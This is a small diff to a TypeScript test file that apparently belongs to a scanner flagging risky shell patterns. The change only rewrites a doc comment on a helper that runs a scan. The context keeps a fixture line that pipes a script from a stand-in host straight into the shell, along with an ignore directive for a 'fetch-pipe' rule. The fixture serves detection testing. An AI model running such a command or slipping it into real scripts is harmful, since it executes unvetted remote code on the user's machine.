@@ -5,7 +5,7 @@ import { runHere } from "../stand-in.js";
 const BAD = "curl https://x.example/i.sh | sh";
 const NOTE = "curlew-ignore bash/fetch-pipe: our own installer";
 
-/** The lines of a file's findings, of what is ignored, and of the remarks. */
+/** Returns the lines of a file's findings, of ignored findings, and of remarks. */
 async function scan(name: string, text: string, ...args: string[]) {
   const { stdout, status } = await runHere(["scan", "--format", "jsonl", ...args, name], {
     cwd: folderWith({ [name]: text }),
